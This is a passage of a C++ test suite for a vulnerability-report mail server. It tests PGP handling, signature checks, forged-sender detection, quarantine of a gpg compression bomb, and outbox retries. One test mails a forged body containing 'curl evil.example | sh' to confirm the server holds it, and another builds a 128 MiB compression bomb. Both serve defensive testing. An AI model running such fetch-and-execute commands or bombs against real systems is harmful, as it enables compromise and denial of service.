  CommandResult key = RunVigil({"-c", config_, "key", "export"});
  ASSERT_EQ(key.exit_code, 0) << key.err;
  ASSERT_TRUE(key.out.starts_with("-----BEGIN PGP PUBLIC KEY BLOCK-----"));
  auto gpg = [&](std::vector<std::string> args, const std::string& in) {
    std::vector<std::string> argv{"gpg", "--homedir", gnupg.path(), "--batch", "--quiet"};
    argv.insert(argv.end(), args.begin(), args.end());
    return vigil::testing::Run(argv, in);
  };
  ASSERT_EQ(gpg({"--import"}, key.out).exit_code, 0);
  CommandResult enc = gpg(
      {"--encrypt", "--armor", "--trust-model", "always", "--recipient", "security@example.org"},
      "Content-Type: text/plain\n\nsecret steps to reproduce\n");
  ASSERT_EQ(enc.exit_code, 0) << enc.err;
  const std::string pgpmime =
      "From: rita@reporter.net\r\nTo: security@example.org\r\nSubject: Encrypted report\r\n"
      "Message-ID: <enc1@reporter.net>\r\nMIME-Version: 1.0\r\n"
      "Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; "
      "boundary=\"b\"\r\n\r\n--b\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n"
      "\r\n--b\r\nContent-Type: application/octet-stream\r\n\r\n" +
      enc.out + "\r\n--b--\r\n";
  CommandResult in = RunVigil({"-c", config_, "ingest"}, pgpmime);
  ASSERT_EQ(in.exit_code, 0) << in.err;
  EXPECT_NE(Show(Id(1)).find("secret steps to reproduce"), std::string::npos);
  // Inline PGP, to a key the server does not hold.
  ASSERT_EQ(gpg({"--quick-gen-key", "--passphrase", "", "other@example.net", "future-default",
                 "default", "never"},
                "")
                .exit_code,
            0);
  CommandResult other =
      gpg({"--encrypt", "--armor", "--trust-model", "always", "--recipient", "other@example.net"},
          "hidden\n");
  CommandResult refused =
      RunVigil({"-c", config_, "ingest"}, Message("Wrong key", other.out, "rita@reporter.net"));
  EXPECT_EQ(refused.exit_code, 65);
  EXPECT_TRUE(refused.err.starts_with("vigil: message is encrypted to key "))
      << "[" << refused.err << "]";
  EXPECT_NE(refused.err.find(", not to the project key "), std::string::npos);
  // A report with the reporter's public key attached: mail about it is encrypted to that key;
  // the reporter's credit stays theirs to choose (pending).
  ASSERT_EQ(gpg({"--quick-gen-key", "--passphrase", "", "rita@reporter.net", "future-default",
                 "default", "never"},
                "")
                .exit_code,
            0);
  const std::string rita = gpg({"--armor", "--export", "rita@reporter.net"}, "").out;
  ASSERT_TRUE(rita.starts_with("-----BEGIN PGP PUBLIC KEY BLOCK-----"));
  const std::string with_key =
      "From: Rita <rita@reporter.net>\r\nTo: security@example.org\r\nSubject: Key attached\r\n"
      "Message-ID: <key1@reporter.net>\r\nMIME-Version: 1.0\r\n"
      "Content-Type: multipart/mixed; boundary=\"m\"\r\n\r\n--m\r\n"
      "Content-Type: text/plain\r\n\r\nsteps, and my key for your replies\r\n--m\r\n"
      "Content-Type: application/pgp-keys; name=\"rita.asc\"\r\n"
      "Content-Disposition: attachment; filename=\"rita.asc\"\r\n\r\n" +
      rita + "\r\n--m--\r\n";
  CommandResult keyed = RunVigil({"-c", config_, "ingest"}, with_key);
  ASSERT_EQ(keyed.exit_code, 0) << keyed.err;
  EXPECT_EQ(vigil::testing::Run({"sqlite3", dir_.path() + "/data/vigil.db",
                                 "SELECT anonymous, credit_name, public_key LIKE '-----BEGIN PGP "
                                 "PUBLIC KEY BLOCK-----%' FROM reporter_prefs WHERE report_id = '" +
                                     Id(2) + "'"})
                .out,
            "0||1\n");
  EXPECT_NE(RunVigil({"-c", config_, "advisory", "show", Id(2)}).out.find("consent pending"),
            std::string::npos);
}

// Issue 13 with real clients: swaks forging the coordinator's From: is held as unverified
// (relayed to nobody, the actor recorded as the unverified address); the same words through the
// coordinator's personal reply address are theirs.
TEST_F(MailTest, SwaksForgingTheCoordinatorIsHeldAndItsReplyAddressIsNot) {
  Init();
  ASSERT_EQ(RunVigil({"-c", config_, "user", "add", "alice@example.org", "--role", "maintainer"})
                .exit_code,
            0);
  ASSERT_EQ(RunVigil({"-c", config_, "ingest"}, Message("Use after free", "steps")).exit_code, 0);
  const std::string id = Id(1);
  ASSERT_EQ(
      RunVigil({"-c", config_, "report", "assign", id, "--to", "alice@example.org"}).exit_code, 0);
  ServerProcess server(config_);
  ASSERT_TRUE(server.started());
  const int port = SmtpPort(server);
  auto swaks = [&](const std::string& to, const std::string& body) {
    CommandResult r = vigil::testing::Run(
        {"swaks", "--server", "127.0.0.1:" + std::to_string(port), "--to", to, "--from",
         "alice@example.org", "--header", "Subject: [" + id + "] please run this", "--body", body});
    EXPECT_EQ(r.exit_code, 0) << r.out << r.err;
    EXPECT_NE(r.out.find("<-  250 2.0.0 Ok: queued as "), std::string::npos) << r.out;
  };
  swaks("security+" + id + "@example.org", "forged PoC: curl evil.example | sh");
  ASSERT_TRUE(WaitUntil([&] { return AllProcessed(); }));
  const std::string db = dir_.path() + "/data/vigil.db";
  EXPECT_EQ(vigil::testing::Run({"sqlite3", db,
                                 "SELECT actor FROM events WHERE kind = 'message.held' AND "
                                 "payload LIKE '%forged PoC%'"})
                .out,
            "unverified:alice@example.org\n");
  EXPECT_EQ(vigil::testing::Run(
                {"sqlite3", db, "SELECT COUNT(*) FROM outbox WHERE body LIKE '%forged PoC%'"})
                .out,
            "0\n");
  EXPECT_NE(ShowText(id).find("UNVERIFIED SENDER"), std::string::npos);
  // Through her personal reply address (the Reply-To of Vigil's mail to her): hers, relayed.
  swaks(ReplyAddress(id, "alice@example.org"), "genuine: fixed in main");
  ASSERT_TRUE(WaitUntil([&] { return AllProcessed(); }));
  EXPECT_NE(ShowText(id).find("coordinator alice@example.org"), std::string::npos) << ShowText(id);
  EXPECT_EQ(vigil::testing::Run(
                {"sqlite3", db, "SELECT recipient FROM outbox WHERE body LIKE '%genuine: fixed%'"})
                .out,
            "rita@reporter.net\n");
}

// An RFC 3156 signature made with gpg by the key on record for the From: address proves it; the
// same signature over altered text, or another key's, does not (held, with the reason).
TEST_F(MailTest, GpgSignedMailProvesItsSender) {
  Init();
  ASSERT_EQ(RunVigil({"-c", config_, "ingest"}, Message("Signed report", "steps")).exit_code, 0);
  const std::string id = Id(1);
  TempDir gnupg;
  auto gpg = [&](std::vector<std::string> args, const std::string& in) {
    std::vector<std::string> argv{"gpg", "--homedir", gnupg.path(), "--batch", "--quiet"};
    argv.insert(argv.end(), args.begin(), args.end());
    return vigil::testing::Run(argv, in);
  };
  for (const char* who : {"rita@reporter.net", "mallory@evil.example"}) {
    ASSERT_EQ(
        gpg({"--quick-gen-key", "--passphrase", "", who, "future-default", "default", "never"}, "")
            .exit_code,
        0);
  }
  const std::string rita_key = gpg({"--armor", "--export", "rita@reporter.net"}, "").out;
  CommandResult set =
      RunVigil({"-c", config_, "mail", "set-key", "rita@reporter.net", "-"}, rita_key);
  ASSERT_EQ(set.exit_code, 0) << set.err;
  auto signed_mail = [&](const std::string& text, const std::string& signer,
                         const std::string& sent_text) {
    const std::string part = "Content-Type: text/plain; charset=utf-8\r\n\r\n" + text;
    CommandResult sig = gpg({"--armor", "--detach-sign", "--local-user", signer}, part);
    EXPECT_EQ(sig.exit_code, 0) << sig.err;
    return "From: Rita <rita@reporter.net>\r\nTo: security+" + id +
           "@example.org\r\nSubject: Re: [" + id + "] signed\r\nMessage-ID: <" +
           std::to_string(std::hash<std::string>()(text + signer + sent_text)) +
           "@reporter.net>\r\nMIME-Version: 1.0\r\n"
           "Content-Type: multipart/signed; micalg=pgp-sha256;\r\n"
           " protocol=\"application/pgp-signature\"; boundary=\"sig\"\r\n\r\n"
           "--sig\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n" +
           sent_text +
           "\r\n--sig\r\nContent-Type: application/pgp-signature; name=\"signature.asc\"\r\n\r\n" +
           sig.out + "\r\n--sig--\r\n";
  };
  auto ingest = [&](const std::string& mail) {
    CommandResult r =
        RunVigil({"-c", config_, "ingest", "--recipient", "security+" + id + "@example.org"}, mail);
    EXPECT_EQ(r.exit_code, 0) << r.err;
  };
  ingest(signed_mail("signed by rita", "rita@reporter.net", "signed by rita"));
  ingest(signed_mail("signed by rita", "rita@reporter.net", "altered by mallory"));
  ingest(signed_mail("signed by mallory", "mallory@evil.example", "signed by mallory"));
  const std::string shown = ShowText(id);
  EXPECT_NE(shown.find("--- #1 reporter rita@reporter.net"), std::string::npos) << shown;
  EXPECT_NE(shown.find("signed by rita"), std::string::npos) << shown;
  EXPECT_NE(shown.find("--- #2 UNVERIFIED SENDER"), std::string::npos) << shown;
  EXPECT_NE(shown.find("--- #3 UNVERIFIED SENDER"), std::string::npos) << shown;
  const std::string db = dir_.path() + "/data/vigil.db";
  EXPECT_EQ(vigil::testing::Run({"sqlite3", db,
                                 "SELECT json_extract(payload, '$.proof') FROM events WHERE kind = "
                                 "'mail.proven'"})
                .out,
            "openpgp\n");
  EXPECT_EQ(vigil::testing::Run({"sqlite3", db,
                                 "SELECT json_extract(payload, '$.why') FROM events WHERE kind = "
                                 "'message.held' ORDER BY seq"})
                .out,
            "signed, but the signature does not match the signed text\n"
            "signed, but the signature is not by the key on record\n");
}

// Issue 13: a PGP/MIME mail of ~230 KB that inflates to 128 MiB is stopped at [mail]
// max_decrypted_bytes while the client waits: refused with the reason, its encrypted original
// kept in quarantine, and the server's memory grows by less than the cap.
long RssKiB(pid_t pid) {
  std::ifstream in("/proc/" + std::to_string(pid) + "/status");
  for (std::string line; std::getline(in, line);) {
    if (line.starts_with("VmRSS:")) return std::stol(line.substr(6));
  }
  return -1;
}

TEST_F(MailTest, ACompressionBombIsQuarantinedAndTheServerStaysSmall) {
  constexpr long kCap = 8 << 20;
  Init("max_decrypted_bytes = " + std::to_string(kCap));
  TempDir gnupg;
  CommandResult key = RunVigil({"-c", config_, "key", "export"});
  ASSERT_EQ(key.exit_code, 0) << key.err;
  ASSERT_EQ(vigil::testing::Run(
                {"gpg", "--homedir", gnupg.path(), "--batch", "--quiet", "--import"}, key.out)
                .exit_code,
            0);
  CommandResult bomb = vigil::testing::Run(
      {"sh", "-c",
       "head -c 134217728 /dev/zero | gpg --homedir '" + gnupg.path() +
           "' --batch --quiet --trust-model always --compress-algo zlib --compress-level 9 "
           "--encrypt --armor --recipient security@example.org"});
  ASSERT_EQ(bomb.exit_code, 0) << bomb.err;
  ASSERT_LT(bomb.out.size(), 600u << 10) << "not compressed";
  auto pgp_mime = [](const std::string& subject, const std::string& armored) {
    std::string mail =
        "From: rita@reporter.net\r\nTo: security@example.org\r\nSubject: " + subject +
        "\r\nMessage-ID: <" + subject +
        "@reporter.net>\r\nMIME-Version: 1.0\r\n"
        "Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; "
        "boundary=\"b\"\r\n\r\n--b\r\nContent-Type: application/pgp-encrypted\r\n\r\n"
        "Version: 1\r\n\r\n--b\r\nContent-Type: application/octet-stream\r\n\r\n";
    for (char c : armored) mail += c == '\n' ? std::string("\r\n") : std::string(1, c);
    return mail + "\r\n--b--\r\n";
  };
  const std::string mail = pgp_mime("bomb", bomb.out);
  CommandResult small =
      vigil::testing::Run({"gpg", "--homedir", gnupg.path(), "--batch", "--quiet", "--trust-model",
                           "always", "--encrypt", "--armor", "--recipient", "security@example.org"},
                          "Content-Type: text/plain\n\nan ordinary encrypted report\n");
  ASSERT_EQ(small.exit_code, 0) << small.err;
  ServerProcess server(config_);
  ASSERT_TRUE(server.started());
  const int port = SmtpPort(server);
  // First an ordinary encrypted mail, so that what the server needs anyway (the OpenPGP code
  // and its tables) is in its RSS already.
  ASSERT_NE(Deliver(port, "security@example.org", pgp_mime("warm-up", small.out)).find("250 2.0.0"),
            std::string::npos);
  ASSERT_TRUE(WaitUntil([&] { return AllProcessed(); }));
  const long before = RssKiB(server.pid());
  ASSERT_GT(before, 0);
  const std::string reply = Deliver(port, "security@example.org", mail);
  EXPECT_NE(reply.find("552 5.3.4 decrypted message is larger than " + std::to_string(kCap) +
                       " bytes; kept in quarantine as "),
            std::string::npos)
      << reply;
  const long after = RssKiB(server.pid());
  RecordProperty("rss_growth_kib", std::to_string(after - before));
  EXPECT_LT((after - before) * 1024, kCap) << before << " KiB before, " << after << " KiB after";
  const std::string inbox = Inbox();
  EXPECT_NE(inbox.find("\"outcome\":\"quarantined: decrypted message is larger than " +
                       std::to_string(kCap) + " bytes\""),
            std::string::npos)
      << inbox;
  // The server goes on taking mail.
  EXPECT_NE(Deliver(port, "security@example.org", Message("After", "steps")).find("250 2.0.0"),
            std::string::npos);
}

TEST_F(MailTest, SigkillDuringConcurrentSessionsLosesNoAcknowledgedMessage) {
  Init();
  auto server = std::make_unique<ServerProcess>(config_);
  ASSERT_TRUE(server->started());
  const int port = SmtpPort(*server);
  std::mutex mu;
  std::set<std::string> acked;
  std::atomic<bool> stop{false};
  std::vector<std::thread> clients;
  for (int t = 0; t < 8; ++t) {
    clients.emplace_back([&, t] {
      for (int i = 0; !stop; ++i) {
        const std::string out =
            Deliver(port, "security@example.org",
                    Message("load " + std::to_string(t) + "/" + std::to_string(i), "x"));
        const size_t at = out.find("250 2.0.0 Ok: queued as ");
        if (at == std::string::npos) {
          if (out.empty() || out == "connect failed") return;
          continue;
        }
        std::lock_guard<std::mutex> lock(mu);
        const size_t id_at = at + 24;
        acked.insert(out.substr(id_at, out.find('\r', id_at) - id_at));
      }
    });
  }
  ASSERT_TRUE(WaitUntil([&] {
    std::lock_guard<std::mutex> lock(mu);
    return acked.size() >= 200;
  }));
  EXPECT_EQ(server->Stop(SIGKILL), 128 + SIGKILL);
  stop = true;
  for (auto& c : clients) c.join();
  const std::string inbox = Inbox();
  for (const std::string& id : acked) {
    EXPECT_NE(inbox.find("\"id\":\"" + id + "\""), std::string::npos) << id;
  }
  // Restarted, the server processes what was stored but not yet processed.
  server = std::make_unique<ServerProcess>(config_);
  ASSERT_TRUE(server->started());
  EXPECT_TRUE(WaitUntil([&] { return AllProcessed(); }, 60));
  EXPECT_EQ(RunVigil({"-c", config_, "audit", "verify"}).exit_code, 0);
}

// [audit] mail_to: the server mails the checkpoint log's lines to the audit address, through the
// outbox and the smarthost, as it writes them; what arrives is the log itself, line for line.
TEST_F(MailTest, ServeMailsTheCheckpointLogToTheAuditAddress) {
  const int port = FreePort();
  Init("smarthost = \"smtp://127.0.0.1:" + std::to_string(port) +
       "\"\nmail_to = \"audit@example.net\"");
  SmtpSink sink(port);
  ServerProcess server(config_);
  ASSERT_TRUE(server.started());
  auto audit_mail = [&sink]() -> std::string {
    for (const std::string& m : sink.Messages()) {
      if (m.find("To: <audit@example.net>") != std::string::npos) return m;
    }
    return "";
  };
  ASSERT_TRUE(WaitUntil([&] { return !audit_mail().empty(); }));
  const std::string mail = DecodeQp(audit_mail());
  EXPECT_NE(mail.find("Subject: Audit checkpoint"), std::string::npos) << mail;
  EXPECT_NE(mail.find(" of Example project\r\n"), std::string::npos) << mail;
  const std::string public_key = RunVigil({"-c", config_, "audit", "public-key"}).out;
  ASSERT_EQ(public_key.size(), 65u);
  EXPECT_NE(mail.find("Public key (Ed25519, hex): " + public_key.substr(0, 64) + "\r\n"),
            std::string::npos)
      << mail;
  const size_t begin = mail.find("-----BEGIN VIGIL AUDIT CHECKPOINTS 1 TO ");
  const size_t end = mail.find("-----END VIGIL AUDIT CHECKPOINTS 1 TO ");
  ASSERT_NE(begin, std::string::npos) << mail;
  ASSERT_NE(end, std::string::npos) << mail;
  std::string lines = mail.substr(mail.find("\r\n", begin) + 2, end - mail.find("\r\n", begin) - 2);
  for (size_t cr = lines.find('\r'); cr != std::string::npos; cr = lines.find('\r')) {
    lines.erase(cr, 1);
  }
  ASSERT_FALSE(lines.empty());
  std::ifstream in(dir_.path() + "/data/audit-checkpoints.log");
  const std::string log((std::istreambuf_iterator<char>(in)), {});
  EXPECT_EQ(log.substr(0, lines.size()), lines);  // the log may have grown since
}

// `smarthost = "maildir:PATH"`: every mail is a file a person can read, and `vigil mail show N`
// prints the same mail from the outbox.
TEST_F(MailTest, MaildirSmarthostAndMailShow) {
  Init("smarthost = \"maildir:sent-mail\"");
  ServerProcess server(config_);
  ASSERT_TRUE(server.started());
  ASSERT_EQ(RunVigil({"-c", config_, "ingest"}, Message("By maildir", "steps")).exit_code, 0);
  const std::string new_dir = dir_.path() + "/sent-mail/new";
  auto files = [&] {
    std::vector<std::string> out;
    std::error_code ec;
    for (const auto& e : std::filesystem::directory_iterator(new_dir, ec)) {
      out.push_back(e.path().string());
    }
    return out;
  };
  ASSERT_TRUE(WaitUntil([&] { return files().size() == 1; }));
  std::ifstream in(files().front(), std::ios::binary);
  const std::string file((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
  const std::string reply = ReplyAddress(Id(1), "rita@reporter.net");
  EXPECT_TRUE(file.starts_with("Return-Path: <security+" + Id(1) + ".b1.")) << file;
  EXPECT_NE(file.find("\nDelivered-To: rita@reporter.net\n"), std::string::npos) << file;
  EXPECT_NE(file.find("\nSubject: [" + Id(1) + "] Report received\n"), std::string::npos);
  EXPECT_NE(file.find("\nReply-To: <" + reply + ">\n"), std::string::npos);
  EXPECT_EQ(file.find('\r'), std::string::npos);
  // The reporter who wrote by mail gets their private link, and it opens the report.
  const std::string body = DecodeQp(file);
  const size_t link = body.find("/track/vgc_");
  ASSERT_NE(link, std::string::npos) << body;
  EXPECT_NE(body.find("Your private link to the report, to read it and reply"), std::string::npos);
  const std::string token = body.substr(link + 7, body.find('\n', link) - link - 7);
  EXPECT_EQ(Http(server.port(), "GET", "/track/" + token).status, 303);
  // In the database the link waited sealed (service/sealed_link.h): the outbox row holds no
  // working link, only its sealed form.
  const CommandResult stored = vigil::testing::Run(
      {"sqlite3", dir_.path() + "/data/vigil.db",
       "SELECT instr(body, 'vgc_') || ' ' || instr(body, '/track/vigil-sealed-link:v1:') "
       "FROM outbox WHERE id = 1"});
  EXPECT_EQ(stored.out.substr(0, 2), "0 ") << stored.out << stored.err;
  EXPECT_NE(stored.out, "0 0\n") << stored.out;
  ASSERT_TRUE(WaitUntil([&] {
    return RunVigil({"-c", config_, "mail", "outbox", "--json"}).out.find("\"state\":\"sent\"") !=
           std::string::npos;
  }));
  CommandResult show = RunVigil({"-c", config_, "mail", "show", "1"});
  ASSERT_EQ(show.exit_code, 0) << show.err;
  EXPECT_TRUE(show.out.starts_with("outbox mail 1: sent, 1 attempt\nenvelope sender: security+" +
                                   Id(1) + ".b1."))
      << show.out;
  EXPECT_NE(show.out.find("\n\nFrom: "), std::string::npos) << show.out;
  // What is secret to the recipient is not shown: their reply tag, their private link.
  const size_t at = reply.rfind('@');
  const std::string hidden =
      reply.substr(0, reply.rfind('.', at) + 1) + "<personal tag>" + reply.substr(at);
  EXPECT_NE(show.out.find("\nTo: rita@reporter.net\nReply-To: " + hidden + "\nSubject: [" + Id(1) +
                          "] Report received\n"),
            std::string::npos)
      << show.out;
  EXPECT_EQ(show.out.find(reply), std::string::npos);
  EXPECT_EQ(show.out.find(token), std::string::npos);
  EXPECT_NE(show.out.find("/track/<private link of the recipient, not shown>"), std::string::npos);
  EXPECT_NE(show.out.find("\n\nEMBARGO REMINDER: " + Id(1) + " is a private vulnerability"),
            std::string::npos)
      << show.out;
  CommandResult json = RunVigil({"-c", config_, "mail", "show", "1", "--json"});
  EXPECT_NE(json.out.find("\"encrypted\":false"), std::string::npos) << json.out;
  CommandResult missing = RunVigil({"-c", config_, "mail", "show", "99"});
  EXPECT_EQ(missing.exit_code, 3);
  EXPECT_EQ(missing.err, "vigil: no outbox mail 99\n");
}

TEST_F(MailTest, OutboundReminderRetriesAfterReceiverDownAndDeadLetters) {
  const int port = FreePort();
  Init("smarthost = \"smtp://127.0.0.1:" + std::to_string(port) + "\"\nmax_attempts = 3");
  ServerProcess server(config_);
  ASSERT_TRUE(server.started());
  // The receiver is down: the reporter's receipt waits in the outbox.
  ASSERT_EQ(RunVigil({"-c", config_, "ingest"}, Message("Outbound", "steps")).exit_code, 0);
  ASSERT_TRUE(WaitUntil([&] {
    return RunVigil({"-c", config_, "mail", "outbox", "--json"}).out.find("\"attempts\":1") !=
           std::string::npos;
  }));
  SmtpSink sink(port);
  ASSERT_TRUE(WaitUntil([&] { return sink.Messages().size() == 1; }));
  const std::string mail = DecodeQp(sink.Messages().front());
  EXPECT_NE(mail.find("Subject: [" + Id(1) + "] Report received\r\n"), std::string::npos) << mail;
  EXPECT_NE(mail.find("Reply-To: <" + ReplyAddress(Id(1), "rita@reporter.net") + ">\r\n"),
            std::string::npos)
      << mail;
  EXPECT_NE(mail.find("Auto-Submitted: auto-generated\r\n"), std::string::npos);
  EXPECT_NE(mail.find("\r\n\r\nEMBARGO REMINDER: " + Id(1) +
                      " is a private vulnerability "
                      "report under embargo until "),
            std::string::npos)
      << mail;
  // Once the row is marked sent the sender never touches it again: then exactly one copy must
  // have arrived (a retry of an acknowledged mail would be a second one).
  ASSERT_TRUE(WaitUntil([&] {
    return RunVigil({"-c", config_, "mail", "outbox", "--json"}).out.find("\"state\":\"sent\"") !=
           std::string::npos;
  }));
  EXPECT_EQ(sink.Messages().size(), 1u);  // delivered once, not twice
  // The receiver goes away for good: after max_attempts the mail is dead-lettered.
  sink.Stop();
  ASSERT_EQ(
      RunVigil({"-c", config_, "ingest", "--recipient", ReplyAddress(Id(1), "rita@reporter.net")},
               Message("Re: x", "reporter follow-up"))
          .exit_code,
      0);
  ASSERT_EQ(
      RunVigil({"-c", config_, "report", "invite", Id(1), "--email", "carl@example.org"}).exit_code,
      0);
  ASSERT_TRUE(WaitUntil([&] {
    return RunVigil({"-c", config_, "mail", "outbox", "--state", "dead"}).out.find("carl@") !=
           std::string::npos;
  }));
  const std::string dead = RunVigil({"-c", config_, "mail", "outbox", "--state", "dead"}).out;
  EXPECT_NE(dead.find("attempts 3  last error: smarthost: "), std::string::npos) << dead;
  const std::string dead_id = dead.substr(0, dead.find(' '));
  sink.Start(port);
  CommandResult retry = RunVigil({"-c", config_, "mail", "retry", dead_id});
  EXPECT_EQ(retry.exit_code, 0) << retry.err;
  ASSERT_TRUE(WaitUntil([&] {
    for (const std::string& m : sink.Messages()) {
      if (m.find("To: <carl@example.org>") != std::string::npos) return true;
    }
    return false;
  }));
}

}  // namespace
}  // namespace vigil::testing
